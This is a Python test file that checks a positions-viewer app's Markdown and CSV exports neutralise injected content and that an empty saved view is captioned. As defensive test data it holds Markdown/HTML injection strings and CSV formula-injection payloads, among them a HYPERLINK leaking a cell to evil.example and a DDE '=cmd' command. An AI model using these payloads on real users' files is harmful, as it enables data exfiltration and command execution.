"""The export cases of ``shared/cases`` (copied to tests/data/cases/), each with the right
value its README gives: Markdown that renders as the data, spreadsheet-safe CSV, and an
empty saved view that says so."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from PySide6.QtGui import QColor, QImage

from positions_viewer.cli import main
from positions_viewer.export.captions import NOTHING_MATCHES
from positions_viewer.model import DatasetIndex, load_file

from .test_escape import Rendered

CASES = Path(__file__).parent.parent / "data" / "cases"
INJECTION_TEXT = ('<img src="file:///etc/passwd"> <script>alert(1)</script> **not bold** '
                  "nul:\ufffd")
INJECTION_ISSUE = "[click me](https://evil.example) ![x](https://evil.example/pixel.png)"
INJECTION_DESCRIPTION = "<!-- a note that hides everything below in rendered Markdown"


def export(*args: str) -> int:
    return main(["export", *args])


def test_markdown_injection_renders_as_the_files_text(tmp_path: Path) -> None:
    out = tmp_path / "x.md"
    assert export(str(CASES / "markdown-injection.toml"), "-o", str(out)) == 0
    data = out.read_bytes()
    assert b"\x00" not in data
    source = data.decode("utf-8")
    for parser in (MarkdownIt("commonmark", {"html": True}).enable("table"),
                   MarkdownIt("commonmark", {"html": True})):
        rendered = Rendered(parser.render(source))
        # nothing from the data became an element: no image, script, link, comment, bold
        assert not {"img", "script", "a", "strong", "code", "s", "del"} & set(rendered.tags)
        assert rendered.comments == []
        for text in (INJECTION_TEXT, INJECTION_ISSUE, INJECTION_DESCRIPTION):
            assert text in rendered.text, text
    # with GFM tables: the table is whole, its cells read exactly as in the file
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(source)
    cells = [t.content for t in tokens if t.type == "inline" and t.map is not None]
    rendered_cells = [Rendered(MarkdownIt("commonmark", {"html": True}).renderInline(c)).text
                      for c in cells]
    assert INJECTION_ISSUE in rendered_cells
    assert f"{INJECTION_TEXT} (undated)" in rendered_cells


def test_csv_formulas_are_guarded_for_spreadsheets(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert export(str(CASES / "csv-formulas.toml"), "-o", str(out)) == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["i", "'+SUM(1,2)", "a", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
                       "", "'@SUM(1+1)", "", "'=cmd|' /C calc'!A0"]
    timeline = tmp_path / "t.csv"
    assert export(str(CASES / "csv-formulas.toml"), "-o", str(timeline), "--view",
                  "timeline") == 0
    assert timeline.read_bytes().startswith(b"\xef\xbb\xbf")


def test_raw_csv_writes_the_text_unchanged_without_a_bom(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert export(str(CASES / "csv-formulas.toml"), "-o", str(out), "--raw-csv") == 0
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[1] == ["i", "+SUM(1,2)", "a", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
                       "", "@SUM(1+1)", "", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", ["-1", "\\tTAB", "\\rCR", "=A1", "+1", "@x"])
def test_every_formula_start_is_guarded(tmp_path: Path, text: str) -> None:
    path = tmp_path / "f.toml"
    path.write_text(f'schema = 1\ntitle = "t"\n[[actors]]\nid = "a"\nname = "A"\n'
                    f'[[issues]]\nid = "i"\ntitle = "I"\n[[positions]]\nactor = "a"\n'
                    f'issue = "i"\ntext = "{text}"\n', encoding="utf-8")
    out = tmp_path / "x.csv"
    assert export(str(path), "-o", str(out)) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    raw = text.replace("\\t", "\t").replace("\\r", "\r")
    assert rows[1][-1] == "'" + raw


def test_an_empty_saved_view_says_nothing_matches_in_markdown(tmp_path: Path) -> None:
    out = tmp_path / "x.md"
    assert export(str(CASES / "empty-saved-view.toml"), "--saved-view", "none", "-o",
                  str(out)) == 0
    text = out.read_text(encoding="utf-8")
    assert f"_{NOTHING_MATCHES}._" in text
    assert "| Issue |" not in text  # no empty table
    assert "## Nothing selected" in text  # headed with the view's title


def test_an_empty_saved_view_says_nothing_matches_in_png(tmp_path: Path, qapp: object) -> None:
    from positions_viewer.ui.render.image import render_png
    from positions_viewer.ui.render.page import PageSpec, layout_page

    path = CASES / "empty-saved-view.toml"
    out = tmp_path / "x.png"
    assert export(str(path), "--saved-view", "none", "-o", str(out), "--view", "grid") == 0
    dataset = load_file(path).dataset
    assert dataset is not None
    index = DatasetIndex(dataset)
    result = index.query(dataset_view_filter(dataset))
    layout = layout_page(result, index, PageSpec(view="grid"))
    assert layout.empty_grid == NOTHING_MATCHES and layout.grid is None
    image = QImage(str(out))
    assert image == render_png(result, index, view="grid", saved_view=0).convertToFormat(
        image.format())
    # The sentence is drawn: the band below the caption holds text-coloured pixels.
    band = image.copy(0, image.height() - 60, image.width(), 60)
    background = QColor(image.pixel(2, 2))
    assert any(QColor(band.pixel(x, y)) != background
               for y in range(band.height()) for x in range(0, band.width(), 2))


def dataset_view_filter(dataset: object) -> object:
    from positions_viewer.model.story import view_filter_of

    return view_filter_of(dataset, 0)  # type: ignore[arg-type]
